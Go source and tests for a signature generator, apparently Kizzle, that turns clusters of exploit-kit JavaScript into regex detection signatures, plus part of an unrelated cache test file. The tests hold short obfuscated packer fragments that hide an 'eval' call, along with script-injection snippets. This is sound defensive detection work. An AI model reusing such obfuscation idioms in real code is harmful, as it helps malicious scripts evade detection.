	// Samples is the number of cluster samples the signature was
	// generalized from.
	Samples int `json:"samples"`
}

// Config controls signature generation.
type Config struct {
	// MinTokens discards signatures whose common run is shorter than
	// this ("short sequences are discarded").
	MinTokens int
	// MaxTokens caps the common-run search (the paper caps at 200).
	MaxTokens int
	// LengthSlack widens every inferred class's length bounds by this
	// many characters in each direction. The paper's algorithm accepts
	// exactly "strings of the observed lengths" (slack 0), which makes
	// signatures brittle across days when clusters are small; Kizzle
	// compensates by regenerating daily. Positive slack trades a little
	// precision for cross-day robustness (see the ablation benchmarks).
	LengthSlack int
	// MaxLiteral caps how long a concrete token may be embedded verbatim
	// in the signature. Longer constant tokens (e.g. a kit's multi-KB
	// encoded payload when it happens to be identical across a cluster)
	// are abstracted to a length-constrained character class instead,
	// keeping signatures in the size range AV engines deploy (Figure 12
	// tops out under 2,000 characters).
	MaxLiteral int
}

// DefaultConfig matches the paper's parameters.
func DefaultConfig() Config { return Config{MinTokens: 10, MaxTokens: 200, MaxLiteral: 64} }

// Errors returned by Generate.
var (
	ErrNoCommonRun = errors.New("siggen: no sufficiently long unique common token run")
	ErrNoSamples   = errors.New("siggen: cluster has no samples")
)

// Generate builds a signature from the tokenized packed samples of one
// malicious cluster.
func Generate(family string, samples [][]jstoken.Token, cfg Config) (Signature, error) {
	if len(samples) == 0 {
		return Signature{}, ErrNoSamples
	}
	if cfg.MinTokens <= 0 {
		cfg.MinTokens = DefaultConfig().MinTokens
	}
	if cfg.MaxTokens <= 0 {
		cfg.MaxTokens = DefaultConfig().MaxTokens
	}
	seqs := make([][]jstoken.Symbol, len(samples))
	for i, s := range samples {
		seqs[i] = jstoken.Abstract(s)
	}
	run, ok := FindCommonRun(seqs, cfg.MinTokens, cfg.MaxTokens)
	if !ok {
		return Signature{}, ErrNoCommonRun
	}

	var gs groupState
	elements := gs.build(samples, run, cfg)
	return Signature{Family: family, Elements: elements, Samples: len(samples)}, nil
}

// groupState carries capture-group numbering across element construction —
// shared between the runs of a multi-sequence signature so a templatized
// variable reused in a later run still becomes a back-reference.
type groupState struct {
	// values[g] holds the per-sample values captured by group g, used to
	// detect back-references (the Nuclear signature's var1/var2 reuse in
	// Figure 10).
	values [][]string
}

// build constructs the elements for one common run.
func (gs *groupState) build(samples [][]jstoken.Token, run CommonRun, cfg Config) []Element {
	// For each offset of the run, the normalized concrete values across
	// samples (Figure 9's "distinct set of concrete strings found ... at
	// that token offset").
	elements := make([]Element, 0, run.Length)
	for o := 0; o < run.Length; o++ {
		col := make([]string, len(samples))
		for i, s := range samples {
			col[i] = s[run.Starts[i]+o].Value()
		}
		if allEqual(col) {
			if cfg.MaxLiteral > 0 && len(col[0]) > cfg.MaxLiteral {
				// Abstract oversized constants to an uncaptured,
				// length-exact class.
				cls := inferClass(col[:1])
				elements = append(elements, Element{
					Kind:   KindClass,
					Class:  cls.Name,
					MinLen: len(col[0]),
					MaxLen: len(col[0]),
					Group:  -1,
				})
				continue
			}
			elements = append(elements, Element{Kind: KindLiteral, Literal: col[0], Group: -1})
			continue
		}
		if g, ok := matchingGroup(gs.values, col); ok {
			elements = append(elements, Element{Kind: KindBackref, Group: g})
			continue
		}
		cls := inferClass(col)
		minLen, maxLen := lengthRange(col)
		if cfg.LengthSlack > 0 {
			minLen -= cfg.LengthSlack
			if minLen < 0 {
				minLen = 0
			}
			maxLen += cfg.LengthSlack
		}
		elements = append(elements, Element{
			Kind:   KindClass,
			Class:  cls.Name,
			MinLen: minLen,
			MaxLen: maxLen,
			Group:  len(gs.values),
		})
		gs.values = append(gs.values, col)
	}
	return elements
}

func allEqual(col []string) bool {
	for _, v := range col[1:] {
		if v != col[0] {
			return false
		}
	}
	return true
}

// matchingGroup reports whether col equals, sample-for-sample, the values
// already captured by some earlier group.
func matchingGroup(groups [][]string, col []string) (int, bool) {
	for g, gv := range groups {
		same := true
		for i := range col {
			if gv[i] != col[i] {
				same = false
				break
			}
		}
		if same {
			return g, true
		}
	}
	return 0, false
}

func lengthRange(col []string) (minLen, maxLen int) {
	minLen, maxLen = len(col[0]), len(col[0])
	for _, v := range col[1:] {
		if len(v) < minLen {
			minLen = len(v)
		}
		if len(v) > maxLen {
			maxLen = len(v)
		}
	}
	return minLen, maxLen
}

// TokenLength returns the length of the signature in tokens.
func (s Signature) TokenLength() int { return len(s.Elements) }

// Regex renders the signature in the AV-deployable regex dialect shown in
// Figure 10: literals are escaped, varying offsets become named groups
// ((?<varN>[0-9a-zA-Z]{3,6})), and reused variables become \k<varN>
// back-references. The rendering is for deployment/display; matching inside
// Kizzle uses the structural form directly (Go's RE2 has no
// back-references).
func (s Signature) Regex() string {
	var sb strings.Builder
	for _, e := range s.Elements {
		switch e.Kind {
		case KindLiteral:
			sb.WriteString(regexp.QuoteMeta(e.Literal))
		case KindClass:
			if e.Group < 0 {
				sb.WriteString(e.Class + quantifier(e.MinLen, e.MaxLen))
			} else {
				fmt.Fprintf(&sb, "(?<var%d>%s%s)", e.Group, e.Class, quantifier(e.MinLen, e.MaxLen))
			}
		case KindBackref:
			fmt.Fprintf(&sb, `\k<var%d>`, e.Group)
		}
	}
	return sb.String()
}

func quantifier(minLen, maxLen int) string {
	if minLen == maxLen {
		return fmt.Sprintf("{%d}", minLen)
	}
	return fmt.Sprintf("{%d,%d}", minLen, maxLen)
}

// Length returns the signature length in characters of its rendered regex,
// the quantity plotted in Figure 12.
func (s Signature) Length() int { return len(s.Regex()) }
