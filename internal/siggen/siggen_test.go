package siggen

import (
	"math/rand"
	"strings"
	"testing"

	"kizzle/internal/jstoken"
)

func lexAll(srcs ...string) [][]jstoken.Token {
	out := make([][]jstoken.Token, len(srcs))
	for i, s := range srcs {
		out[i] = jstoken.Lex(s)
	}
	return out
}

// figure9Samples are the three cluster samples from the paper's Figure 9.
func figure9Samples() [][]jstoken.Token {
	return lexAll(
		`Euur1V = this["l9D"]("ev#333399al");`,
		`jkb0hA = this["uqA"]("ev#ccff00al");`,
		`QB0Xk = this["k3LSC"]("ev#33cc00al");`,
	)
}

// TestGenerateFigure9 reproduces the paper's worked example. The expected
// signature from Figure 9 is
//
//	[A-Za-z0-9]{5,6}=this\[[A-Za-z0-9]{3,5}\]\(.{11}\);
//
// modulo class spelling and the named-group rendering Figure 10 uses.
func TestGenerateFigure9(t *testing.T) {
	sig, err := Generate("Nuclear", figure9Samples(), Config{MinTokens: 5, MaxTokens: 200})
	if err != nil {
		t.Fatal(err)
	}
	if got := sig.TokenLength(); got != 10 {
		t.Fatalf("token length = %d, want 10 (all tokens of the samples)", got)
	}
	kinds := make([]ElementKind, len(sig.Elements))
	for i, e := range sig.Elements {
		kinds[i] = e.Kind
	}
	want := []ElementKind{
		KindClass,   // Euur1V / jkb0hA / QB0Xk
		KindLiteral, // =
		KindLiteral, // this
		KindLiteral, // [
		KindClass,   // l9D / uqA / k3LSC
		KindLiteral, // ]
		KindLiteral, // (
		KindClass,   // ev#...al
		KindLiteral, // )
		KindLiteral, // ;
	}
	if len(kinds) != len(want) {
		t.Fatalf("kinds = %v", kinds)
	}
	for i := range want {
		if kinds[i] != want[i] {
			t.Errorf("element %d kind = %v, want %v", i, kinds[i], want[i])
		}
	}

	// First varying element: identifiers of length 5-6 over alphanumerics.
	e0 := sig.Elements[0]
	if e0.MinLen != 5 || e0.MaxLen != 6 {
		t.Errorf("var0 length range = {%d,%d}, want {5,6}", e0.MinLen, e0.MaxLen)
	}
	if e0.Class != "[0-9a-zA-Z]" {
		t.Errorf("var0 class = %s, want [0-9a-zA-Z]", e0.Class)
	}
	// Second varying element: the property strings, length 3-5.
	e4 := sig.Elements[4]
	if e4.MinLen != 3 || e4.MaxLen != 5 {
		t.Errorf("var1 length range = {%d,%d}, want {3,5}", e4.MinLen, e4.MaxLen)
	}
	// Third varying element: "ev#xxxxxxal" strings, fixed length 11,
	// catch-all class because '#' is outside every narrower template.
	e7 := sig.Elements[7]
	if e7.MinLen != 11 || e7.MaxLen != 11 {
		t.Errorf("payload length range = {%d,%d}, want {11,11}", e7.MinLen, e7.MaxLen)
	}
	if e7.Class != AnyClassName {
		t.Errorf("payload class = %s, want %s", e7.Class, AnyClassName)
	}

	re := sig.Regex()
	for _, needle := range []string{"this", `\[`, `\(`, "{5,6}", "{3,5}", ".{11}"} {
		if !strings.Contains(re, needle) {
			t.Errorf("rendered regex %q missing %q", re, needle)
		}
	}
	// Quotes must have been normalized away.
	if strings.Contains(re, `"`) {
		t.Errorf("rendered regex %q contains quotes; AV normalization must strip them", re)
	}
}

// TestGenerateBackref verifies templatized-variable detection: when every
// sample reuses the same (random) name at two offsets, the second offset
// becomes a back-reference (the var1/var2 pattern of Figure 10a).
func TestGenerateBackref(t *testing.T) {
	samples := lexAll(
		`aQw3["k"]("x"); aQw3["k"]("y1");`,
		`Zp0t["m"]("x"); Zp0t["m"]("y2");`,
		`m4Jq["z"]("x"); m4Jq["z"]("y3");`,
	)
	sig, err := Generate("Nuclear", samples, Config{MinTokens: 5, MaxTokens: 200})
	if err != nil {
		t.Fatal(err)
	}
	var backrefs, classes int
	for _, e := range sig.Elements {
		switch e.Kind {
		case KindBackref:
			backrefs++
		case KindClass:
			classes++
		}
	}
	if backrefs < 2 {
		t.Errorf("backrefs = %d, want >= 2 (identifier and property reuse)", backrefs)
	}
	re := sig.Regex()
	if !strings.Contains(re, `\k<var0>`) {
		t.Errorf("regex %q missing back-reference rendering", re)
	}
}

func TestGenerateRejectsShortRuns(t *testing.T) {
	samples := lexAll(`a=1;`, `b=2;`)
	if _, err := Generate("RIG", samples, Config{MinTokens: 10, MaxTokens: 200}); err != ErrNoCommonRun {
		t.Errorf("err = %v, want ErrNoCommonRun", err)
	}
}

func TestGenerateNoSamples(t *testing.T) {
	if _, err := Generate("RIG", nil, DefaultConfig()); err != ErrNoSamples {
		t.Errorf("err = %v, want ErrNoSamples", err)
	}
}

func TestGenerateSingleSampleIsAllLiterals(t *testing.T) {
	samples := lexAll(`var x = collect("47 y642y6100y6"); x.split("y6");`)
	sig, err := Generate("RIG", samples, Config{MinTokens: 5, MaxTokens: 200})
	if err != nil {
		t.Fatal(err)
	}
	for i, e := range sig.Elements {
		if e.Kind != KindLiteral {
			t.Errorf("element %d kind = %v, want literal (single sample can't vary)", i, e.Kind)
		}
	}
}

func TestGenerateCapsAtMaxTokens(t *testing.T) {
	long := strings.Repeat(`f(1);`, 100)
	samples := lexAll(long, long, long)
	sig, err := Generate("Angler", samples, Config{MinTokens: 5, MaxTokens: 200})
	// The repeated body means no window is unique; uniqueness may fail at
	// every length. Accept either outcome but enforce the cap on success.
	if err == nil && sig.TokenLength() > 200 {
		t.Errorf("token length = %d, exceeds cap 200", sig.TokenLength())
	}
}

func TestGenerateUniquePrefixSelected(t *testing.T) {
	// Repeated prefix is non-unique; the distinctive tail must be chosen.
	mk := func(id string) string {
		return strings.Repeat(`x(1);`, 8) + `var ` + id + ` = document.createElement("script"); document.body.appendChild(` + id + `);`
	}
	samples := lexAll(mk("aaa1"), mk("bbb2"), mk("ccc3"))
	sig, err := Generate("RIG", samples, Config{MinTokens: 6, MaxTokens: 200})
	if err != nil {
		t.Fatal(err)
	}
	re := sig.Regex()
	if !strings.Contains(re, "createElement") {
		t.Errorf("signature %q should cover the unique tail", re)
	}
}

func TestFindCommonRunTable(t *testing.T) {
	abstract := func(src string) []jstoken.Symbol { return jstoken.Abstract(jstoken.Lex(src)) }
	tests := []struct {
		name      string
		seqs      [][]jstoken.Symbol
		minTokens int
		wantOK    bool
		wantLen   int
	}{
		{
			"identical sequences",
			[][]jstoken.Symbol{abstract("a=1;b=2;"), abstract("c=3;d=4;")},
			4, true, 8,
		},
		{
			"no overlap",
			[][]jstoken.Symbol{abstract("a=1;"), abstract("function f(){}")},
			3, false, 0,
		},
		{
			"empty input",
			nil, 1, false, 0,
		},
		{
			"one empty sequence",
			[][]jstoken.Symbol{abstract("a=1;"), nil},
			1, false, 0,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			run, ok := FindCommonRun(tt.seqs, tt.minTokens, 200)
			if ok != tt.wantOK {
				t.Fatalf("ok = %v, want %v", ok, tt.wantOK)
			}
			if ok && run.Length != tt.wantLen {
				t.Errorf("length = %d, want %d", run.Length, tt.wantLen)
			}
		})
	}
}

func TestFindCommonRunUniqueness(t *testing.T) {
	// "xyxy" style repetition: window "xy" occurs twice, so only runs that
	// include the distinguishing suffix are unique.
	a := jstoken.Abstract(jstoken.Lex("f(1);f(1);g(2);"))
	run, ok := FindCommonRun([][]jstoken.Symbol{a, a}, 3, 200)
	if !ok {
		t.Fatal("expected a run")
	}
	// The run must be unique: verify by scanning.
	window := a[run.Starts[0] : run.Starts[0]+run.Length]
	_, count := occurrences(a, window)
	if count != 1 {
		t.Errorf("selected run occurs %d times, want 1", count)
	}
}

func TestInferClassTable(t *testing.T) {
	tests := []struct {
		name   string
		values []string
		want   string
	}{
		{"digits", []string{"12", "99"}, "[0-9]"},
		{"lower", []string{"ab", "zz"}, "[a-z]"},
		{"upper", []string{"AB", "ZZ"}, "[A-Z]"},
		{"alpha", []string{"aB", "Zz"}, "[a-zA-Z]"},
		{"lower digits", []string{"a1", "z9"}, "[0-9a-z]"},
		{"alnum", []string{"a1", "Z9"}, "[0-9a-zA-Z]"},
		{"ident chars", []string{"_a", "$9"}, "[0-9a-zA-Z_$]"},
		{"quoted", []string{`"a"`, "'b'"}, `[0-9a-zA-Z"']`},
		{"anything", []string{"a#b", "c!d"}, AnyClassName},
		{"empty strings", []string{"", ""}, "[0-9]"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := inferClass(tt.values); got.Name != tt.want {
				t.Errorf("inferClass(%v) = %s, want %s", tt.values, got.Name, tt.want)
			}
		})
	}
}

func TestClassByName(t *testing.T) {
	for _, cls := range classTemplates {
		got, ok := ClassByName(cls.Name)
		if !ok || got.Name != cls.Name {
			t.Errorf("ClassByName(%s) failed", cls.Name)
		}
	}
	if _, ok := ClassByName("[bogus]"); ok {
		t.Error("unknown class resolved")
	}
}

// Property: generated signatures structurally match every sample they were
// generated from (checked here at the element level; end-to-end matching is
// tested in sigmatch).
func TestGenerateSelfConsistency(t *testing.T) {
	rng := rand.New(rand.NewSource(17))
	for iter := 0; iter < 30; iter++ {
		n := 2 + rng.Intn(5)
		srcs := make([]string, n)
		for i := range srcs {
			srcs[i] = randomPackerSample(rng)
		}
		samples := lexAll(srcs...)
		sig, err := Generate("RIG", samples, Config{MinTokens: 5, MaxTokens: 200})
		if err != nil {
			t.Fatalf("iter %d: %v", iter, err)
		}
		seqs := make([][]jstoken.Symbol, n)
		for i := range samples {
			seqs[i] = jstoken.Abstract(samples[i])
		}
		run, ok := FindCommonRun(seqs, 5, 200)
		if !ok {
			t.Fatalf("iter %d: run vanished", iter)
		}
		for si, s := range samples {
			for o, e := range sig.Elements {
				v := s[run.Starts[si]+o].Value()
				switch e.Kind {
				case KindLiteral:
					if v != e.Literal {
						t.Fatalf("iter %d sample %d offset %d: literal %q != %q", iter, si, o, v, e.Literal)
					}
				case KindClass:
					if len(v) < e.MinLen || len(v) > e.MaxLen {
						t.Fatalf("iter %d sample %d offset %d: len %d outside {%d,%d}", iter, si, o, len(v), e.MinLen, e.MaxLen)
					}
					cls, ok := ClassByName(e.Class)
					if !ok {
						t.Fatalf("unknown class %s", e.Class)
					}
					for b := 0; b < len(v); b++ {
						if !cls.Match(v[b]) {
							t.Fatalf("iter %d: class %s rejects %q", iter, e.Class, v)
						}
					}
				}
			}
		}
	}
}

// randomPackerSample emits a RIG-like unpacker with randomized identifiers
// and delimiter, structurally constant.
func randomPackerSample(rng *rand.Rand) string {
	ident := func() string {
		const chars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
		n := 4 + rng.Intn(4)
		b := make([]byte, n)
		b[0] = chars[rng.Intn(52)]
		for i := 1; i < n; i++ {
			b[i] = chars[rng.Intn(len(chars))]
		}
		return string(b)
	}
	buf, delim, fn := ident(), ident(), ident()
	return `var ` + buf + ` = ""; var ` + delim + ` = "` + ident() + `"; function ` + fn +
		`(t) { ` + buf + ` += t; } var pieces = ` + buf + `.split(` + delim + `);`
}

func BenchmarkGenerate(b *testing.B) {
	rng := rand.New(rand.NewSource(4))
	srcs := make([]string, 20)
	for i := range srcs {
		// Five structurally distinct sections per sample: repetition
		// would defeat the uniqueness constraint by construction.
		srcs[i] = randomPackerSample(rng) +
			" if(check){ " + randomPackerSample(rng) + " } " +
			" try{ " + randomPackerSample(rng) + " }catch(e){} " +
			" function outer(){ " + randomPackerSample(rng) + " } " +
			" for(;;){ " + randomPackerSample(rng) + " break; }"
	}
	samples := lexAll(srcs...)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Generate("RIG", samples, DefaultConfig()); err != nil {
			b.Fatal(err)
		}
	}
}
