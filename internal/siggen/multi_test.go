package siggen

import (
	"strings"
	"testing"

	"kizzle/internal/jstoken"
)

func lexN(srcs ...string) [][]jstoken.Token {
	out := make([][]jstoken.Token, len(srcs))
	for i, s := range srcs {
		out[i] = jstoken.Lex(s)
	}
	return out
}

func TestGenerateMultiNoSamples(t *testing.T) {
	if _, err := GenerateMulti("X", nil, DefaultMultiConfig()); err != ErrNoSamples {
		t.Errorf("err = %v, want ErrNoSamples", err)
	}
}

func TestGenerateMultiNoCommonRun(t *testing.T) {
	samples := lexN("a=1;", "function f(){}")
	if _, err := GenerateMulti("X", samples, DefaultMultiConfig()); err != ErrNoCommonRun {
		t.Errorf("err = %v, want ErrNoCommonRun", err)
	}
}

func TestGenerateMultiSinglePartFallback(t *testing.T) {
	// Fully identical structure: one long run covers everything.
	src := `var a=1; var b=2; var c=3; f(a,b,c);`
	samples := lexN(src, src, src)
	cfg := DefaultMultiConfig()
	multi, err := GenerateMulti("X", samples, cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(multi.Parts) < 1 {
		t.Fatal("no parts")
	}
	if multi.TokenLength() < cfg.MinTotalTokens {
		t.Errorf("total tokens %d below floor", multi.TokenLength())
	}
}

func TestGenerateMultiQuorumMath(t *testing.T) {
	mk := func(id string) string {
		// Three stable fragments separated by id-varying middles.
		return `window.alpha(1,2,3);` + `var ` + id + `="` + id + `";` +
			`document.beta("x","y");` + id + `.gamma();` +
			`console.delta(9,8,7);`
	}
	samples := lexN(mk("aaaa"), mk("bbzz"), mk("ccc"))
	cfg := DefaultMultiConfig()
	cfg.MinTokens = 5
	cfg.QuorumNum, cfg.QuorumDen = 1, 2
	multi, err := GenerateMulti("X", samples, cfg)
	if err != nil {
		t.Fatal(err)
	}
	want := (len(multi.Parts) + 1) / 2
	if multi.MinParts != want {
		t.Errorf("MinParts = %d, want ceil(%d/2) = %d", multi.MinParts, len(multi.Parts), want)
	}
	// Quorum disabled: all parts required.
	cfg.QuorumNum, cfg.QuorumDen = 0, 0
	multi, err = GenerateMulti("X", samples, cfg)
	if err != nil {
		t.Fatal(err)
	}
	if multi.MinParts != 0 {
		t.Errorf("MinParts = %d, want 0 (all)", multi.MinParts)
	}
}

func TestGenerateMultiRespectsMaxParts(t *testing.T) {
	// Structurally distinct stable fragments separated by id-varying
	// fillers (identifiers abstract to one symbol, so the fragments must
	// differ in keywords/punctuation to stay unique).
	mk := func(id string) string {
		return `window.one(1);var ` + id + `a=0;` +
			`if(two){three.four("x");}var ` + id + `b=1;` +
			`for(var i=0;i<9;i++){five(i);}var ` + id + `c=2;` +
			`try{six();}catch(e){}var ` + id + `d=3;` +
			`function seven(){return 8;}var ` + id + `e=4;`
	}
	samples := lexN(mk("xx"), mk("yyy"), mk("zzzz"))
	cfg := DefaultMultiConfig()
	cfg.MaxParts = 3
	cfg.MinTokens = 4
	multi, err := GenerateMulti("X", samples, cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(multi.Parts) > 3 {
		t.Errorf("parts = %d, exceeds MaxParts", len(multi.Parts))
	}
}

func TestGenerateMultiPartsOrderedAndDisjoint(t *testing.T) {
	mk := func(id string) string {
		return `head.one(1);var ` + id + `=2;middle.two(3);var ` + id + `x=4;tail.three(5);`
	}
	samples := lexN(mk("aaa"), mk("bbbbb"), mk("cc"))
	cfg := DefaultMultiConfig()
	cfg.MinTokens = 4
	multi, err := GenerateMulti("X", samples, cfg)
	if err != nil {
		t.Fatal(err)
	}
	// Rendered regex must contain the fragments in source order.
	re := multi.Regex()
	posOne := strings.Index(re, "one")
	posThree := strings.Index(re, "three")
	if posOne < 0 || posThree < 0 || posOne > posThree {
		t.Errorf("fragments out of order in %q", re)
	}
}

func TestMultiRegexGaps(t *testing.T) {
	m := MultiSignature{
		Family: "X",
		Parts: []Signature{
			{Family: "X", Elements: []Element{{Kind: KindLiteral, Literal: "aa", Group: -1}}},
			{Family: "X", Elements: []Element{{Kind: KindLiteral, Literal: "bb", Group: -1}}},
		},
	}
	if got := m.Regex(); got != `aa.*?bb` {
		t.Errorf("Regex = %q", got)
	}
	if m.Length() != len(`aa.*?bb`) {
		t.Errorf("Length = %d", m.Length())
	}
	if m.TokenLength() != 2 {
		t.Errorf("TokenLength = %d", m.TokenLength())
	}
}
