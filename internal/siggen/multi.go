package siggen

import (
	"strings"

	"kizzle/internal/jstoken"
)

// MultiSignature is the paper's §V proposed hardening against structural
// evasion: "our approach can be extended to create signatures which not
// only match one consecutive token sequence, but rather consist of
// multiple, shorter sequences". An attacker who sprays superfluous
// statements between the packer's real operations breaks any single long
// common run, but the stable fragments *between* the junk insertions still
// recur in every sample; a MultiSignature matches those fragments in order
// with arbitrary gaps.
type MultiSignature struct {
	// Family is the exploit-kit family label.
	Family string `json:"family"`
	// Parts are the ordered runs; each must match at a strictly later
	// token offset than the previous one. Capture groups are numbered
	// across the whole signature, so back-references can span parts.
	Parts []Signature `json:"parts"`
	// MinParts is how many parts must match (in order) for the signature
	// to fire; 0 means all of them. Requiring a quorum rather than every
	// part is what makes the signature robust when fresh junk lands
	// inside one fragment's span.
	MinParts int `json:"minParts,omitempty"`
	// Samples is the number of cluster samples generalized from.
	Samples int `json:"samples"`
}

// MultiConfig controls multi-sequence generation.
type MultiConfig struct {
	// Config applies per part; MinTokens is the per-part floor.
	Config
	// MaxParts caps the number of runs collected.
	MaxParts int
	// MinTotalTokens discards multi-signatures whose parts sum to fewer
	// tokens than this (overall specificity floor).
	MinTotalTokens int
	// QuorumNum/QuorumDen set the matching quorum as a fraction of the
	// collected parts (e.g. 2/3). Zero means all parts must match.
	QuorumNum, QuorumDen int
}

// DefaultMultiConfig uses shorter per-part runs than the single-run
// default, with an overall specificity floor equal to the single-run one.
func DefaultMultiConfig() MultiConfig {
	cfg := DefaultConfig()
	cfg.MinTokens = 6
	return MultiConfig{Config: cfg, MaxParts: 6, MinTotalTokens: 12, QuorumNum: 2, QuorumDen: 3}
}

// GenerateMulti builds a multi-sequence signature by divide and conquer:
// find the longest common unique run over the whole cluster, then recurse
// into the aligned regions to its left and right, collecting up to MaxParts
// ordered, non-overlapping runs.
func GenerateMulti(family string, samples [][]jstoken.Token, cfg MultiConfig) (MultiSignature, error) {
	if len(samples) == 0 {
		return MultiSignature{}, ErrNoSamples
	}
	if cfg.MaxParts <= 0 {
		cfg.MaxParts = DefaultMultiConfig().MaxParts
	}
	if cfg.MinTokens <= 0 {
		cfg.MinTokens = DefaultMultiConfig().MinTokens
	}
	if cfg.MaxTokens <= 0 {
		cfg.MaxTokens = DefaultMultiConfig().MaxTokens
	}
	if cfg.MinTotalTokens <= 0 {
		cfg.MinTotalTokens = DefaultMultiConfig().MinTotalTokens
	}

	base := make([]int, len(samples))
	budget := cfg.MaxParts
	var runs []placedRun
	collectRuns(samples, base, cfg, &budget, &runs)
	if len(runs) == 0 {
		return MultiSignature{}, ErrNoCommonRun
	}
	sortRuns(runs)

	total := 0
	var gs groupState
	out := MultiSignature{Family: family, Samples: len(samples)}
	for _, r := range runs {
		elements := gs.build(samples, CommonRun{Length: r.Length, Starts: r.Starts}, cfg.Config)
		out.Parts = append(out.Parts, Signature{Family: family, Elements: elements, Samples: len(samples)})
		total += r.Length
	}
	if total < cfg.MinTotalTokens {
		return MultiSignature{}, ErrNoCommonRun
	}
	if cfg.QuorumNum > 0 && cfg.QuorumDen > 0 {
		out.MinParts = (len(out.Parts)*cfg.QuorumNum + cfg.QuorumDen - 1) / cfg.QuorumDen
		if out.MinParts < 1 {
			out.MinParts = 1
		}
	}
	return out, nil
}

// placedRun is a common run with absolute per-sample start offsets.
type placedRun struct {
	Length int
	Starts []int
}

// collectRuns finds the best run in the aligned region, records it with
// absolute offsets, and recurses into the left and right sub-regions.
func collectRuns(region [][]jstoken.Token, base []int, cfg MultiConfig, budget *int, out *[]placedRun) {
	if *budget <= 0 {
		return
	}
	seqs := make([][]jstoken.Symbol, len(region))
	for i, s := range region {
		seqs[i] = jstoken.Abstract(s)
	}
	run, ok := FindCommonRun(seqs, cfg.MinTokens, cfg.MaxTokens)
	if !ok {
		return
	}
	*budget--
	abs := make([]int, len(region))
	for i := range region {
		abs[i] = base[i] + run.Starts[i]
	}
	*out = append(*out, placedRun{Length: run.Length, Starts: abs})

	left := make([][]jstoken.Token, len(region))
	right := make([][]jstoken.Token, len(region))
	rightBase := make([]int, len(region))
	for i, s := range region {
		left[i] = s[:run.Starts[i]]
		right[i] = s[run.Starts[i]+run.Length:]
		rightBase[i] = base[i] + run.Starts[i] + run.Length
	}
	collectRuns(left, base, cfg, budget, out)
	collectRuns(right, rightBase, cfg, budget, out)
}

// sortRuns orders runs by their position in the first sample (regions are
// aligned, so the order is consistent across samples).
func sortRuns(runs []placedRun) {
	for i := 1; i < len(runs); i++ {
		for j := i; j > 0 && runs[j].Starts[0] < runs[j-1].Starts[0]; j-- {
			runs[j], runs[j-1] = runs[j-1], runs[j]
		}
	}
}

// TokenLength returns the summed token length of all parts.
func (m MultiSignature) TokenLength() int {
	n := 0
	for _, p := range m.Parts {
		n += p.TokenLength()
	}
	return n
}

// Regex renders the signature with non-greedy gaps between parts.
func (m MultiSignature) Regex() string {
	parts := make([]string, len(m.Parts))
	for i, p := range m.Parts {
		parts[i] = p.Regex()
	}
	return strings.Join(parts, `.*?`)
}

// Length is the rendered length in characters.
func (m MultiSignature) Length() int { return len(m.Regex()) }
