package contentcache

import (
	"fmt"
	"strings"
	"sync"
	"testing"
)

// xxh64Vectors pins the digest against the reference XXH64 test vectors
// (seed 0), so the implementation is the real algorithm rather than
// something hash-shaped.
func TestDigestVectors(t *testing.T) {
	cases := []struct {
		in   string
		want uint64
	}{
		{"", 0xef46db3751d8e999},
		{"a", 0xd24ec4f1a98c6e5b},
		{"as", 0x1c330fb2d66be179},
		{"asd", 0x631c37ce72a97393},
		{"asdf", 0x415872f599cea71e},
		// 32+ byte input exercises the 4-lane main loop.
		{"Call me Ishmael. Some years ago--never mind how long precisely-",
			0x02a2e85470d6fd96},
	}
	for _, c := range cases {
		if got := Digest(c.in); got != c.want {
			t.Errorf("Digest(%q) = %#x, want %#x", c.in, got, c.want)
		}
	}
}

func TestDigestLengthBoundaries(t *testing.T) {
	// Every tail-handling path: 0..40 bytes.
	seen := make(map[uint64]string)
	for n := 0; n <= 40; n++ {
		s := strings.Repeat("x", n)
		d := Digest(s)
		if prev, dup := seen[d]; dup {
			t.Fatalf("digest collision between %q and %q", prev, s)
		}
		seen[d] = s
	}
}

func TestCacheHitMissVerify(t *testing.T) {
	c := New(1 << 20)
	const kindA, kindB Kind = 1, 2
	k := KeyOf(kindA, "content-1")
	if _, ok := c.Get(k, "content-1"); ok {
		t.Fatal("hit on empty cache")
	}
	c.Put(k, "content-1", 42)
	v, ok := c.Get(k, "content-1")
	if !ok || v.(int) != 42 {
		t.Fatalf("get = (%v, %v), want (42, true)", v, ok)
	}
	// Same digest probe with different content must verify-miss.
	if _, ok := c.Get(k, "content-2"); ok {
		t.Fatal("collision probe returned a hit")
	}
	// Kinds namespace the same content.
	if _, ok := c.Get(KeyOf(kindB, "content-1"), "content-1"); ok {
		t.Fatal("kind namespacing broken")
	}
	st := c.Stats()
	if st.Hits != 1 || st.Misses != 3 || st.Entries != 1 {
		t.Fatalf("stats = %+v, want 1 hit / 3 misses / 1 entry", st)
	}
	if got := st.HitRate(); got != 0.25 {
		t.Fatalf("hit rate = %v, want 0.25", got)
	}
}

func TestCacheEviction(t *testing.T) {
	// Budget small enough that each shard holds ~2 entries of 100 bytes.
	c := New(shardCount * 250)
	content := func(i int) string {
		return fmt.Sprintf("%03d", i) + strings.Repeat("p", 97)
	}
	for i := 0; i < 200; i++ {
		s := content(i)
		c.Put(KeyOf(0, s), s, i)
	}
	st := c.Stats()
	if st.Bytes > shardCount*250 {
		t.Fatalf("cache over budget: %d bytes", st.Bytes)
	}
	if st.Entries == 0 || st.Entries > 2*shardCount {
		t.Fatalf("entries = %d, want within (0, %d]", st.Entries, 2*shardCount)
	}
	// Most recent insert must have survived FIFO eviction.
	s := content(199)
	if _, ok := c.Get(KeyOf(0, s), s); !ok {
		t.Fatal("most recent entry evicted")
	}
}

func TestCacheReplace(t *testing.T) {
	c := New(1 << 20)
	k := KeyOf(0, "doc")
	c.Put(k, "doc", "v1")
	c.Put(k, "doc", "v2")
	if v, ok := c.Get(k, "doc"); !ok || v.(string) != "v2" {
		t.Fatalf("replace: got (%v, %v)", v, ok)
	}
	if st := c.Stats(); st.Entries != 1 || st.Bytes != len("doc") {
		t.Fatalf("replace double-counted: %+v", st)
	}
}

func TestNilCache(t *testing.T) {
	var c *Cache
	c.Put(KeyOf(0, "x"), "x", 1)
	if _, ok := c.Get(KeyOf(0, "x"), "x"); ok {
		t.Fatal("nil cache returned a hit")
	}
	if st := c.Stats(); st != (Stats{}) {
